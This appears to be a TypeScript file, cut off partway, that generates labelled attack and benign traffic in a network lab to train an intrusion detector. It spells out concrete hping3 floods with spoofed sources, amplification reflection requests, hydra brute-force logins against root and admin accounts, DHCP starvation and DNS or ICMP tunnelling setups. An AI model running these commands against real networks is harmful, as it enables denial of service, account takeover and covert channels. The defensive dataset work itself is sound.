/**
 * The lab's scenarios. A scenario run is a set of actors (commands started in lab namespaces, in parallel,
 * each bounded by count and a timeout) and a label rule: flows touching one of `attackers` get the run's
 * class; with `spoofedVictim`, flows to that victim from addresses outside the lab hosts get it too; with
 * `reflection`, flows between the victim and a reflector (the spoofed requests and the replies the victim receives)
 * get it too; every other flow of the run is benign background. Parameters are drawn from the run's seed, so a run reproduces.
 */
import { createRng, type Rng } from '../train/rng.js';
import { BENIGN_CLIENTS, HOSTS, UNADDRESSED } from './netns.js';

export const CLASSES = ['benign', 'scan', 'dos', 'bruteforce', 'dns_tunnel', 'exfil', 'c2', 'tunnel'] as const;
export type LabClass = (typeof CLASSES)[number];

export interface Actor {
  host: string;
  /** 'client:<kind>' runs models/lab/clients.ts; anything else is an executable. */
  cmd: string;
  args: string[] | Record<string, unknown>;
  delayMs?: number;
  timeoutMs: number;
}

export interface RunSpec {
  id: string;
  scenario: string;
  cls: LabClass;
  seed: number;
  attackers: string[];
  spoofedVictim?: string;
  reflection?: { victim: string; reflectors: string[] };
  actors: Actor[];
  params: Record<string, unknown>;
}

const srv = HOSTS.srv!.ip, ext = HOSTS.ext!.ip;
const pick = <T>(rng: Rng, xs: readonly T[]): T => xs[rng.int(xs.length)]!;
const client = (kind: string, host: string, params: Record<string, unknown>, timeoutMs = 30_000, delayMs = 0): Actor =>
  ({ host, cmd: `client:${kind}`, args: params, timeoutMs, delayMs });

export interface LabFiles {
  sshKey: string; words: string; blob: string; sink: string;
  /** SSH_ASKPASS helper that answers a wrong password (one failed login among good ones). */
  askpassWrong: string;
  /** Request payloads that make a reflector answer with more bytes than it received, by protocol. */
  reflectPayloads: Record<'dns' | 'ntp' | 'snmp' | 'ssdp', { file: string; bytes: number }>;
}

/** A shell command: an OpenSSH password login as `user` that answers every one of its `prompts` with a wrong password. */
const wrongPasswordLogin = (f: LabFiles, user: string, prompts: number): string =>
  `SSH_ASKPASS_REQUIRE=force SSH_ASKPASS='${f.askpassWrong}' DISPLAY=:0 ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -o PubkeyAuthentication=no -o PreferredAuthentications=password -o NumberOfPasswordPrompts=${prompts} ${user}@${srv} true`;
const sshOpts = (f: LabFiles): string[] => ['-i', f.sshKey, '-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null', '-o', 'BatchMode=yes', '-o', 'LogLevel=ERROR'];

/** A light benign mix, used alone (benign runs) and as background in some attack runs. */
function benignMix(rng: Rng, f: LabFiles, intensity: 'light' | 'full'): Actor[] {
  const a: Actor[] = [];
  const n = intensity === 'full' ? 3 : 1;
  for (const c of BENIGN_CLIENTS.slice(0, n)) {
    const seed = rng.int(1e9);
    a.push(client('dns', c.name, { seed, count: 30 + rng.int(60), gapMs: 30 + rng.int(80), perQuerySocket: rng.next() < 0.8 }));
    a.push(client('fetches', c.name, { seed: seed + 1, https: rng.next() < 0.5, count: 20 + rng.int(40), gapMs: 40 + rng.int(80) }, 30_000, rng.int(500)));
    a.push(client('browse', c.name, { seed, https: rng.next() < 0.5, pages: 2 + rng.int(3), thinkMs: 300 + rng.int(900) }, 30_000, rng.int(1000)));
  }
  if (intensity === 'full' || rng.next() < 0.5) {
    const c = pick(rng, BENIGN_CLIENTS).name;
    a.push({ host: c, cmd: 'ping', args: ['-c', String(3 + rng.int(10)), '-i', '0.2', '-s', String(pick(rng, [56, 56, 120, 1000])), srv], timeoutMs: 10_000 });
    a.push(client('ntp', pick(rng, BENIGN_CLIENTS).name, { seed: rng.int(1e9), count: 2 + rng.int(4), gapMs: 800, port123: rng.next() < 0.5 }));
    a.push(client('ssdp', pick(rng, BENIGN_CLIENTS).name, { seed: rng.int(1e9), count: 2 + rng.int(6), gapMs: 400 }));
  }
  void f;
  return a;
}

type Builder = (rng: Rng, f: LabFiles, variant: number) => Omit<RunSpec, 'id' | 'scenario' | 'seed'>;

const benign = (build: (rng: Rng, f: LabFiles, v: number) => Actor[]): Builder => (rng, f, v) =>
  ({ cls: 'benign', attackers: [], actors: build(rng, f, v), params: {} });

/**
 * Variant order per scenario. Runs v = 2, 5, 8, 11 are held out (test/validation, see planRuns), so the orders
 * put every kind into at least one training run and repeat kinds in the held-out slots.
 */
const NMAP_TYPES = ['-sS', '-sT', '-sU', '-sA', '-sF', '-sS', '-sN', '-sX', '-sA', '-sV', '-sU', '-sX'] as const;
const DOS_KINDS = ['syn80', 'udp', 'udp', 'icmp', 'synspoof', 'syn80', 'synclosed', 'udpspoof', 'synspoof'] as const;
const BRUTE_KINDS = ['hydra-ssh', 'hydra-ftp', 'hydra-http', 'hydra-http', 'script-http', 'hydra-ssh', 'script-ftp', 'script-http-ka', 'hydra-ftp'] as const;
const DNS_QTYPES = [16, 10, 16, 5, 1, 10, 28, 16, 5] as const;
const C2_MODES = ['tcp', 'https', 'http', 'http', 'https', 'tcp'] as const;
const ICMP_FLOOD_KINDS = ['hping', 'pingf', 'hping', 'spoof', 'hping-big', 'pingf'] as const;
const PING_SWEEP_PROBES = [['-PE'], [], ['-PE'], ['-PE', '-PP'], ['-PP'], []] as const;
const HOST_SWEEP_KINDS = ['nmap-tcp', 'nmap-udp', 'masscan-tcp', 'masscan-tcp', 'masscan-udp', 'nmap-tcp'] as const;
/**
 * Reflection runs by variant: the protocol and whether the spoofed requests keep one source port. The first six
 * were drawn at random; runs 06–11 complete the table so that every (protocol, port mode) pair has a training run
 * (v % 3 === 2 are held out): before, a one-port DNS stream existed only in a test run.
 */
const REFLECT_VARIANTS: ReadonlyArray<readonly ['dns' | 'ntp' | 'snmp' | 'ssdp', boolean]> = [
  ['dns', false], ['ntp', true], ['dns', true], ['snmp', true], ['ssdp', false], ['ntp', true],
  ['dns', true], ['ntp', false], ['snmp', false], ['snmp', false], ['ssdp', true], ['dns', true],
];
const REFLECT_PORTS = { dns: 53, ntp: 123, snmp: 161, ssdp: 1900 } as const;
const DNS_TCP_PER_CONNECTION = [1, 40, 1, 8, 150, 1] as const;
/** iodine's DNS record types (-T); 'auto' lets it pick (NULL where the path allows). */
const IODINE_TYPES = ['auto', 'TXT', 'NULL', 'CNAME', 'A', 'MX'] as const;
const LAB_24 = `${HOSTS.srv!.ip.replace(/\.\d+$/, '')}.0/24`;

/**
 * Scenarios added for issue 11: attack families the sensor missed (ICMP floods, ping and host sweeps, DHCP
 * starvation, an ICMP tunnel, DNS tunnelling over TCP, reflection with spoofed sources) and benign traffic that
 * raised false alarms on real homes (IoT cloud links, phones, repeated SSH logins, MQTT fleets, link-local
 * broadcast chatter, update downloads, streaming). Names differ from the older scenarios, so their run ids and
 * seeds do not collide with the rows already in the dataset.
 */
const NEW_SCENARIOS: Record<string, { runs: number; build: Builder }> = {
  icmpflood: { runs: 6, build: (rng, f, v) => {
    const kind = ICMP_FLOOD_KINDS[v % ICMP_FLOOD_KINDS.length]!;
    const count = String(1500 + rng.int(2500));
    const size = String(kind === 'hping-big' ? pick(rng, [1000, 1400]) : pick(rng, [0, 56, 120]));
    const args = kind === 'pingf' ? ['-f', '-q', '-c', count, '-s', size, srv]
      : ['-q', '--icmp', '-c', count, '-i', `u${pick(rng, [100, 200, 400])}`, '-d', size, ...(kind === 'spoof' ? ['--rand-source'] : []), srv];
    const actors: Actor[] = [{ host: 'atk', cmd: kind === 'pingf' ? 'ping' : 'hping3', args, timeoutMs: 20_000 }];
    if (rng.next() < 0.6) actors.push(...benignMix(rng, f, 'light'));
    return { cls: 'dos', attackers: [HOSTS.atk!.ip], spoofedVictim: kind === 'spoof' ? srv : undefined, actors, params: { kind, args: args.join(' ') } };
  } },
  pingsweep: { runs: 6, build: (rng, f, v) => {
    // --send-ip: probes go out as IP (not ARP), so absent addresses get probes too (see addPhantomNeighbours).
    const args = ['-sn', '-n', '--send-ip', '--disable-arp-ping', ...PING_SWEEP_PROBES[v % PING_SWEEP_PROBES.length]!, pick(rng, ['-T3', '-T4', '-T5']), '--max-retries', '1', LAB_24];
    const actors: Actor[] = [{ host: 'atk', cmd: 'nmap', args, timeoutMs: 30_000 }];
    if (rng.next() < 0.6) actors.push(...benignMix(rng, f, 'light'));
    return { cls: 'scan', attackers: [HOSTS.atk!.ip], actors, params: { nmap: args.join(' ') } };
  } },
  hostsweep: { runs: 6, build: (rng, f, v) => {
    const kind = HOST_SWEEP_KINDS[v % HOST_SWEEP_KINDS.length]!;
    const udp = kind.endsWith('udp');
    let actor: Actor;
    if (kind.startsWith('nmap')) {
      const ports = udp ? pick(rng, ['-p161', '-p53,123', '-p1900']) : pick(rng, ['-p22', '-p80,443', '-p445', '-p23']);
      const args = ['-n', '-Pn', '--send-ip', udp ? '-sU' : pick(rng, ['-sS', '-sT']), ports, pick(rng, ['-T4', '-T5']), '--max-retries', '1', '--host-timeout', '20s', LAB_24];
      actor = { host: 'atk', cmd: 'nmap', args, timeoutMs: 30_000 };
    } else {
      const ports = udp ? pick(rng, ['-pU:161', '-pU:53,U:1900']) : pick(rng, ['-p80', '-p22,443', '-p445']);
      actor = { host: 'atk', cmd: 'masscan', args: [LAB_24, '--interface', 'vatk', '--adapter-ip', HOSTS.atk!.ip, '--router-mac', '$SRV_MAC', ports, '--rate', String(pick(rng, [300, 1000, 2000])), '--wait', '1', '--seed', String(rng.int(1e6))], timeoutMs: 20_000 };
    }
    const actors = [actor];
    if (rng.next() < 0.6) actors.push(...benignMix(rng, f, 'light'));
    return { cls: 'scan', attackers: [HOSTS.atk!.ip], actors, params: { kind, args: (actor.args as string[]).join(' ') } };
  } },
  dhcpflood: { runs: 4, build: (rng, f) => {
    // DHCP starvation: DISCOVERs from random MACs, all from 0.0.0.0:68 to 255.255.255.255:67 (so 0.0.0.0 is an
    // attacker address in this run; no benign DHCP runs alongside). Sent from the unaddressed host, as only a
    // host without an address sends from 0.0.0.0.
    const params = { seed: rng.int(1e9), count: 200 + rng.int(600), gapMs: pick(rng, [2, 5, 15, 30]), randomMac: true };
    const actors = [client('dhcp', UNADDRESSED.name, params, 30_000)];
    if (rng.next() < 0.6) actors.push(...benignMix(rng, f, 'light'));
    return { cls: 'dos', attackers: [HOSTS.atk!.ip, '0.0.0.0'], actors, params };
  } },
  icmptunnel: { runs: 12, build: (rng, f) => {
    // ptunnel/icmptunnel shape: sustained echo request/reply pairs with high-entropy payloads of hundreds of bytes
    // both ways (the peer's kernel echoes each payload back), several sessions one after another.
    const params = { seed: rng.int(1e9), host: ext, sessions: 2 + rng.int(7), count: 150 + rng.int(250), gapMs: pick(rng, [10, 30, 60, 100]), sizeMin: pick(rng, [100, 200, 400]), sizeMax: pick(rng, [600, 1000, 1400]) };
    rng.int(1e9); // was the seed of a separate reply writer; still drawn so the runs keep their background mix
    const actors = [client('icmptunnel', 'atk', { ...params, peerMac: '$EXT_MAC' }, 25_000, 500)];
    if (rng.next() < 0.6) actors.push(...benignMix(rng, f, 'light'));
    return { cls: 'tunnel', attackers: [HOSTS.atk!.ip], actors, params };
  } },
  dnstcp: { runs: 6, build: (rng, f, v) => {
    const params = { seed: rng.int(1e9), perConnection: DNS_TCP_PER_CONNECTION[v % DNS_TCP_PER_CONNECTION.length]!, qtype: pick(rng, [16, 10, 5, 1, 28]), count: 60 + rng.int(160), gapMs: 5 + rng.int(40), labelLen: 30 + rng.int(34), labels: 1 + rng.int(3), domain: pick(rng, ['t.lab-tunnel.example', 'x.cdn-sync.example', 'a.b']) };
    const actors = [client('dnstcp', 'atk', params, 30_000)];
    if (rng.next() < 0.6) actors.push(...benignMix(rng, f, 'light'));
    return { cls: 'dns_tunnel', attackers: [HOSTS.atk!.ip], actors, params };
  } },
  iodine: { runs: 6, build: (rng, f, v) => {
    // The real tool (Debian's iodine): iodined answers DNS for its domain on the outside host, the infected host's
    // iodine tunnels IP through DNS queries to it, and HTTP uploads and downloads run through the tunnel.
    const params = { seed: rng.int(1e9), type: IODINE_TYPES[v % IODINE_TYPES.length]!, lazy: rng.next() < 0.7, rounds: 2 + rng.int(4), sizeMin: 10_000 + rng.int(40_000), sizeMax: 60_000 + rng.int(200_000), gapMs: 300 + rng.int(1500), download: rng.next() < 0.6, domain: pick(rng, ['t.lab-tunnel.example', 'x.cdn-sync.example', 'a.b']) };
    const actors: Actor[] = [
      { host: 'ext', cmd: 'iodined', args: ['-f', '-c', '-P', 'lab-tunnel', '-l', ext, '-p', '53', '10.53.0.1/27', params.domain], timeoutMs: 45_000 },
      client('iodine', 'atk', { ...params, host: ext, tunnelServer: '10.53.0.1' }, 42_000, 800),
    ];
    if (rng.next() < 0.6) actors.push(...benignMix(rng, f, 'light'));
    return { cls: 'dns_tunnel', attackers: [HOSTS.atk!.ip], actors, params };
  } },
  ptunnel: { runs: 6, build: (rng, f) => {
    // The real tool (Debian's ptunnel-ng): its proxy on the outside host, its client on the infected host forwarding a
    // local port through ICMP echo; the outside host's kernel still answers every echo request as well.
    const params = { seed: rng.int(1e9), rounds: 2 + rng.int(5), sizeMin: 5_000 + rng.int(40_000), sizeMax: 50_000 + rng.int(250_000), gapMs: 200 + rng.int(1500), download: rng.next() < 0.6 };
    const actors: Actor[] = [
      { host: 'ext', cmd: 'ptunnel-ng', args: ['-r127.0.0.1', '-R8000', '-v', '0'], timeoutMs: 40_000 },
      client('forwarded', 'atk', { ...params, command: ['ptunnel-ng', `-p${ext}`, '-l2222', '-r127.0.0.1', '-R8000', '-v', '0'], localPort: 2222 }, 37_000, 800),
    ];
    if (rng.next() < 0.6) actors.push(...benignMix(rng, f, 'light'));
    return { cls: 'tunnel', attackers: [HOSTS.atk!.ip], actors, params };
  } },
  dns2tcp: { runs: 6, build: (rng, f, v) => {
    // The real tool (Debian's dns2tcp): dns2tcpd answers DNS for its domain on the outside host and relays a resource
    // to the outside host's web server; dns2tcpc on the infected host carries a local port over TXT or KEY queries.
    const params = { seed: rng.int(1e9), qtype: v % 3 === 1 ? 'KEY' : 'TXT', rounds: 2 + rng.int(4), sizeMin: 5_000 + rng.int(20_000), sizeMax: 30_000 + rng.int(100_000), gapMs: 300 + rng.int(1500), download: rng.next() < 0.6, domain: pick(rng, ['t.lab-tunnel.example', 'x.cdn-sync.example', 'a.b']) };
    const conf = [`listen = ${ext}`, 'port = 53', 'user = nobody', 'chroot = /tmp', `domain = ${params.domain}`, 'resources = web:127.0.0.1:8000'].join('\n');
    const actors: Actor[] = [
      { host: 'ext', cmd: 'sh', args: ['-c', `printf '%s\\n' "${conf}" > /tmp/netsensor-lab-dns2tcpd.conf && exec dns2tcpd -F -f /tmp/netsensor-lab-dns2tcpd.conf`], timeoutMs: 40_000 },
      client('forwarded', 'atk', { ...params, command: ['dns2tcpc', '-z', params.domain, '-r', 'web', '-l', '2223', '-T', params.qtype, ext], localPort: 2223 }, 37_000, 800),
    ];
    if (rng.next() < 0.6) actors.push(...benignMix(rng, f, 'light'));
    return { cls: 'dns_tunnel', attackers: [HOSTS.atk!.ip], actors, params };
  } },
  reflect: { runs: 12, build: (rng, f, v) => {
    // Spoofed requests "from" the victim (ext) to srv's amplifying services: the victim receives the replies.
    const [proto, fixedPort] = REFLECT_VARIANTS[v % REFLECT_VARIANTS.length]!;
    const payload = f.reflectPayloads[proto];
    rng.next(); // the port mode's former random draw: kept, so runs 00–05 keep every other parameter
    const args = ['-q', '-2', '-a', ext, '-p', String(REFLECT_PORTS[proto]), '-E', payload.file, '-d', String(payload.bytes), '-c', String(800 + rng.int(2200)), '-i', `u${pick(rng, [300, 600, 1000])}`, ...(fixedPort ? ['-k', '-s', String(1024 + rng.int(60000))] : []), srv];
    const actors: Actor[] = [{ host: 'atk', cmd: 'hping3', args, timeoutMs: 25_000 }];
    if (rng.next() < 0.6) actors.push(...benignMix(rng, f, 'light'));
    return { cls: 'dos', attackers: [HOSTS.atk!.ip], reflection: { victim: ext, reflectors: [srv] }, actors, params: { proto, fixedPort, hping3: args.join(' ') } };
  } },

  iotcloud: { runs: 4, build: benign((rng) => [
    client('iot', 'c1', { seed: rng.int(1e9), proto: 'mqtt', keepaliveS: pick(rng, [1, 2, 3]), periodMs: 800 + rng.int(1200), count: 12 + rng.int(8), sensor: 'plug' }, 32_000),
    client('iot', 'c2', { seed: rng.int(1e9), proto: 'https', host: ext, periodMs: 700 + rng.int(1300), count: 12 + rng.int(10), sensor: 'thermostat' }, 32_000, rng.int(800)),
    client('iot', 'c3', { seed: rng.int(1e9), proto: 'coap', host: ext, periodMs: 400 + rng.int(1000), count: 15 + rng.int(20) }, 32_000, rng.int(800)),
    ...(rng.next() < 0.5 ? [client('fetches', 'c3', { seed: rng.int(1e9), host: ext, https: true, count: 5 + rng.int(5), gapMs: 2000 + rng.int(2000) }, 32_000)] : []),
    ...BENIGN_CLIENTS.map((c) => client('ntp', c.name, { seed: rng.int(1e9), count: 1 + rng.int(3), gapMs: 4000, port123: rng.next() < 0.5 })),
    client('dns', 'c2', { seed: rng.int(1e9), count: 5 + rng.int(10), gapMs: 1500, perQuerySocket: true }),
  ]) },
  phone: { runs: 4, build: benign((rng) => [
    client('phone', 'c1', { seed: rng.int(1e9), rounds: 2 + rng.int(3), connsMin: 6, connsMax: 20, quic: 1 + rng.int(3), thinkMs: 1000 + rng.int(2000) }, 32_000),
    client('phone', 'c2', { seed: rng.int(1e9), rounds: 2 + rng.int(2), connsMin: 4, connsMax: 12, quic: rng.int(3), thinkMs: 1500 + rng.int(2000) }, 32_000, rng.int(2000)),
    client('browse', 'c3', { seed: rng.int(1e9), https: true, pages: 2 + rng.int(3), thinkMs: 600 + rng.int(900), assetsMin: 6, assetsMax: 20 }, 30_000),
  ]) },
  sshlogins: { runs: 4, build: benign((rng, f) => {
    // Several logins in a row from one admin host, one of them with a wrong password first (PAM delay, then retry by key).
    const n = 3 + rng.int(4), wrongAt = rng.int(n);
    const key = sshOpts(f).map((o) => `'${o}'`).join(' ');
    const pw = wrongPasswordLogin(f, 'root', 1);
    const steps: string[] = [];
    for (let i = 0; i < n; i++) {
      if (i === wrongAt) steps.push(`${pw} < /dev/null; sleep 1`);
      steps.push(`ssh ${key} root@${srv} '${pick(rng, ['uptime', 'df -h', 'ls /etc | head -20', 'cat /proc/loadavg'])}'`);
      steps.push(`sleep ${(0.3 + 2 * rng.next()).toFixed(1)}`);
    }
    return [
      { host: 'c1', cmd: 'sh', args: ['-c', steps.join('; ')], timeoutMs: 30_000 },
      ...(rng.next() < 0.5 ? [{ host: 'c2', cmd: 'ssh', args: [...sshOpts(f), '-tt', `root@${srv}`, `for i in $(seq 1 ${4 + rng.int(6)}); do date; sleep 0.5; done`], timeoutMs: 20_000, delayMs: 500 }] : []),
    ];
  }) },
  mqttfleet: { runs: 4, build: benign((rng) => [
    ...BENIGN_CLIENTS.map((c) => client('mqttfleet', c.name, { seed: rng.int(1e9), clients: 4 + rng.int(8), cycles: 2 + rng.int(3), spreadMs: 1000 + rng.int(2000) }, 30_000)),
    client('mqtt', 'c3', { seed: rng.int(1e9), role: 'sub', topic: 'fleet', durationMs: 12_000 }),
  ]) },
  broadcast: { runs: 4, build: benign((rng) => [
    ...BENIGN_CLIENTS.map((c) => client('broadcast', c.name, { seed: rng.int(1e9), self: c.ip, count: 10 + rng.int(20), gapMs: 300 + rng.int(700), netbiosPorts: rng.next() < 0.7 }, 30_000, rng.int(1500))),
    client('dhcp', UNADDRESSED.name, { seed: rng.int(1e9), dev: `v${UNADDRESSED.name}`, count: 1 + rng.int(2), gapMs: 2000, randomMac: false }, 10_000, rng.int(3000)),
    ...BENIGN_CLIENTS.map((c) => client('ntp', c.name, { seed: rng.int(1e9), count: 1 + rng.int(3), gapMs: 2000, port123: rng.next() < 0.5 })),
    client('ssdp', 'c3', { seed: rng.int(1e9), count: 3 + rng.int(4), gapMs: 800 }),
  ]) },
  update: { runs: 4, build: benign((rng) => [
    client('fetches', 'c1', { seed: rng.int(1e9), host: ext, https: true, count: 2 + rng.int(3), gapMs: 300 }),
    client('download', 'c1', { host: ext, https: true, sizes: [2_000 + rng.int(20_000), 3_000_000 + rng.int(9_000_000)], gapMs: 200 }, 30_000, 1500),
    client('download', 'c2', { https: rng.next() < 0.5, sizes: [2_000_000 + rng.int(6_000_000)] }, 30_000, rng.int(2000)),
    client('dns', 'c1', { seed: rng.int(1e9), count: 4 + rng.int(6), gapMs: 400, perQuerySocket: true }),
  ]) },
  camera: { runs: 9, build: benign((rng) => {
    // Added after cameras and IPTV raised dos (docs/detection.md "A stream is not a flood"): two cameras streaming RTP
    // to the recorder on srv, a one-way call's audio (50 datagrams a second of 172 bytes), and in half the runs an
    // IPTV channel that srv multicasts and c3 joins.
    const iptv = rng.next() < 0.5;
    const cam = (host: string, i: number): Actor => client('rtp', host, { seed: rng.int(1e9), host: srv, port: 6000 + 2 * i, localPort: 5004 + 2 * i,
      pps: pick(rng, [100, 150, 250, 400]), fps: pick(rng, [15, 25, 30]), size: pick(rng, [1100, 1316, 1400]), durationMs: 18_000 + rng.int(6000) }, 30_000, 1000 + rng.int(1500));
    return [
      client('rtpsink', 'srv', { ports: [6000, 6002, 6004], durationMs: 28_000 }, 30_000),
      ...(iptv ? [client('rtpsink', 'c3', { ports: [], group: '239.10.0.7', groupPort: 5004, durationMs: 26_000 }, 30_000)] : []),
      cam('c1', 0), cam('c2', 1),
      client('rtp', 'c3', { seed: rng.int(1e9), host: srv, port: 6004, localPort: 40_000 + 2 * rng.int(1000), pps: 50, fps: 50, size: 172, durationMs: 15_000 + rng.int(8000) }, 30_000, rng.int(3000)),
      ...(iptv ? [client('rtp', 'srv', { seed: rng.int(1e9), host: '239.10.0.7', port: 5004, localPort: 5010, group: true, pps: pick(rng, [200, 300]), fps: 25, size: 1316, durationMs: 18_000 }, 30_000, 2000)] : []),
      client('dns', 'c1', { seed: rng.int(1e9), count: 4 + rng.int(6), gapMs: 1500, perQuerySocket: true }),
    ];
  }) },
  stream: { runs: 4, build: benign((rng) => [
    client('stream', 'c1', { seed: rng.int(1e9), host: ext, https: true, segments: 12 + rng.int(12), segmentBytes: 300_000 + rng.int(700_000), periodMs: 600 + rng.int(800) }, 32_000),
    client('stream', 'c2', { seed: rng.int(1e9), host: srv, https: rng.next() < 0.5, segments: 8 + rng.int(10), segmentBytes: 150_000 + rng.int(400_000), periodMs: 800 + rng.int(1200) }, 32_000, rng.int(2000)),
    client('dns', 'c3', { seed: rng.int(1e9), count: 10 + rng.int(20), gapMs: 400, perQuerySocket: true }),
  ]) },
};

export const SCENARIOS: Record<string, { runs: number; build: Builder }> = {
  web: { runs: 4, build: benign((rng, f) => [
    ...BENIGN_CLIENTS.map((c, i) => client('browse', c.name, { seed: rng.int(1e9), https: i % 2 === 1, pages: 3 + rng.int(4), thinkMs: 300 + rng.int(700) })),
    client('download', pick(rng, BENIGN_CLIENTS).name, { https: rng.next() < 0.5, sizes: [rng.int(2_000_000), rng.int(200_000), 5_000 + rng.int(50_000)] }),
    client('upload', pick(rng, BENIGN_CLIENTS).name, { seed: rng.int(1e9), host: srv, port: 80, count: 2 + rng.int(3), sizeMin: 200, sizeMax: 4000, periodMs: 700 }),
    ...BENIGN_CLIENTS.map((c) => client('fetches', c.name, { seed: rng.int(1e9), https: rng.next() < 0.5, count: 60 + rng.int(80), gapMs: 20 + rng.int(60) })),
  ]) },
  dns: { runs: 4, build: benign((rng) => BENIGN_CLIENTS.map((c) => client('dns', c.name, { seed: rng.int(1e9), count: 120 + rng.int(120), gapMs: 10 + rng.int(40), perQuerySocket: rng.next() < 0.85 }))) },
  iot: { runs: 4, build: benign((rng) => [
    client('mqtt', 'c3', { seed: rng.int(1e9), role: 'sub', durationMs: 7000 }),
    client('mqtt', 'c1', { seed: rng.int(1e9), role: 'pub', sensor: 'temp1', count: 15 + rng.int(15), periodMs: 150 + rng.int(250) }, 30_000, 300),
    client('mqtt', 'c2', { seed: rng.int(1e9), role: 'pub', sensor: 'hum2', count: 10 + rng.int(15), periodMs: 200 + rng.int(300) }, 30_000, 400),
    ...BENIGN_CLIENTS.map((c) => client('ntp', c.name, { seed: rng.int(1e9), count: 2 + rng.int(4), gapMs: 1000 + rng.int(500), port123: rng.next() < 0.5 })),
    client('ssdp', 'c1', { seed: rng.int(1e9), count: 4 + rng.int(6), gapMs: 500 }),
    client('ssdp', 'c2', { seed: rng.int(1e9), count: 2 + rng.int(4), gapMs: 900 }),
    { host: 'c3', cmd: 'ping', args: ['-c', String(5 + rng.int(10)), '-i', '0.3', srv], timeoutMs: 10_000 },
  ]) },
  ssh: { runs: 4, build: benign((rng, f) => [
    { host: 'c1', cmd: 'ssh', args: [...sshOpts(f), '-tt', `root@${srv}`, `for i in $(seq 1 ${4 + rng.int(8)}); do ls -la /etc | head -${5 + rng.int(20)}; sleep 0.${2 + rng.int(6)}; done`], timeoutMs: 20_000 },
    { host: 'c2', cmd: 'scp', args: [...sshOpts(f), f.blob, `root@${srv}:${f.sink}/upload-${rng.int(1e6)}`], timeoutMs: 20_000, delayMs: 300 },
    { host: 'c3', cmd: 'scp', args: [...sshOpts(f), `root@${srv}:${f.blob}`, '/dev/null'], timeoutMs: 20_000, delayMs: 600 },
    { host: 'c1', cmd: 'ssh', args: [...sshOpts(f), `root@${srv}`, 'uptime'], timeoutMs: 10_000, delayMs: 1500 },
  ]) },
  office: { runs: 4, build: benign((rng, f) => benignMix(rng, f, 'full')) },
  chatter: { runs: 6, build: benign((rng, f) => [
    ...BENIGN_CLIENTS.map((c) => client('chatter', c.name, { seed: rng.int(1e9), count: 10 + rng.int(15), gapMs: 300 + rng.int(500) })),
    ...BENIGN_CLIENTS.map((c, i): Actor => ({ host: c.name, cmd: 'ping', args: ['-c', String(2 + rng.int(14)), '-i', String(pick(rng, [0.2, 0.5, 1])), '-s', String(pick(rng, [56, 64, 120, 1000, 1400])), i === 2 ? HOSTS.ext!.ip : srv], timeoutMs: 20_000, delayMs: rng.int(3000) })),
    ...benignMix(rng, f, 'light'),
  ]) },

  scan: { runs: 12, build: (rng, f, v) => {
    const type = NMAP_TYPES[v % NMAP_TYPES.length]!;
    const udp = type === '-sU', version = type === '-sV';
    const ports = udp ? pick(rng, ['--top-ports=40', '-p53,67,69,123,161,500,1900,5353']) : version ? '-p21,22,80,443,1883,8080' : pick(rng, ['--top-ports=300', '-p1-1200', '-p20-25,53,80,110,143,443,445,3389,8080', '--top-ports=1000']);
    const timing = pick(rng, udp || version ? ['-T4', '-T5'] : ['-T3', '-T4', '-T5']);
    const args = ['-n', '-Pn', type, ports, timing, '--max-retries', '1', '--host-timeout', '25s', srv];
    if (version) args.splice(3, 0, '--version-light');
    const actors: Actor[] = [{ host: 'atk', cmd: 'nmap', args, timeoutMs: 30_000 }];
    if (rng.next() < 0.5) actors.push({ host: 'atk', cmd: 'nmap', args: ['-n', '-sn', `${HOSTS.srv!.ip.replace(/\.\d+$/, '')}.0/27`, '-T4'], timeoutMs: 15_000 });
    if (rng.next() < 0.6) actors.push(...benignMix(rng, f, 'light'));
    return { cls: 'scan', attackers: [HOSTS.atk!.ip], actors, params: { nmap: args.join(' ') } };
  } },
  masscan: { runs: 2, build: (rng) => {
    const args = [srv, '--interface', 'vatk', '--adapter-ip', HOSTS.atk!.ip, '--router-mac', '$SRV_MAC', `-p${pick(rng, ['1-2000', '1-1000,3000-3500', '20-30,80,443,8000-8100'])}`, '--rate', String(pick(rng, [500, 1000, 3000])), '--wait', '1', '--seed', String(rng.int(1e6))];
    return { cls: 'scan', attackers: [HOSTS.atk!.ip], actors: [{ host: 'atk', cmd: 'masscan', args, timeoutMs: 20_000 }], params: { masscan: args.join(' ') } };
  } },
  dos: { runs: 9, build: (rng, f, v) => {
    const kind = DOS_KINDS[v % DOS_KINDS.length]!;
    const count = String(1500 + rng.int(3000));
    const interval = `u${pick(rng, [100, 200, 400])}`;
    const base = ['-q', '-c', count, '-i', interval];
    const args = kind === 'syn80' ? [...base, '-S', '-p', '80', srv]
      : kind === 'synclosed' ? [...base, '-S', '-p', String(pick(rng, [25, 3306, 9999])), srv]
      : kind === 'udp' ? [...base, '--udp', '-p', pick(rng, ['53', '123', '5000']), '-d', String(pick(rng, [0, 64, 512])), srv]
      : kind === 'icmp' ? [...base, '--icmp', '-d', String(pick(rng, [0, 56, 1000])), srv]
      : kind === 'synspoof' ? [...base, '-S', '-p', '80', '--rand-source', srv]
      : [...base, '--udp', '-p', '53', '--rand-source', srv];
    const actors: Actor[] = [{ host: 'atk', cmd: 'hping3', args, timeoutMs: 20_000 }];
    if (rng.next() < 0.6) actors.push(...benignMix(rng, f, 'light'));
    return { cls: 'dos', attackers: [HOSTS.atk!.ip], spoofedVictim: kind.endsWith('spoof') ? srv : undefined, actors, params: { hping3: args.join(' ') } };
  } },
  bruteforce: { runs: 9, build: (rng, f, v) => {
    const kind = BRUTE_KINDS[v % BRUTE_KINDS.length]!;
    const tasks = String(pick(rng, [2, 4, 8]));
    let actor: Actor;
    if (kind === 'hydra-ssh') actor = { host: 'atk', cmd: 'hydra', args: ['-l', 'root', '-P', f.words, '-t', tasks, '-I', '-q', `ssh://${srv}`], timeoutMs: 25_000 };
    else if (kind === 'hydra-ftp') actor = { host: 'atk', cmd: 'hydra', args: ['-L', f.words, '-p', 'secret', '-t', tasks, '-I', '-q', `ftp://${srv}`], timeoutMs: 25_000 };
    else if (kind === 'hydra-http') actor = { host: 'atk', cmd: 'hydra', args: ['-l', 'admin', '-P', f.words, '-t', tasks, '-I', '-q', '-s', '8080', srv, 'http-get', '/admin'], timeoutMs: 25_000 };
    else if (kind === 'script-ftp') actor = client('ftpbrute', 'atk', { seed: rng.int(1e9), count: 40 + rng.int(60), gapMs: 20 + rng.int(100) });
    else actor = client('httpbrute', 'atk', { seed: rng.int(1e9), count: 60 + rng.int(100), gapMs: 10 + rng.int(60), keepAlive: kind.endsWith('-ka') });
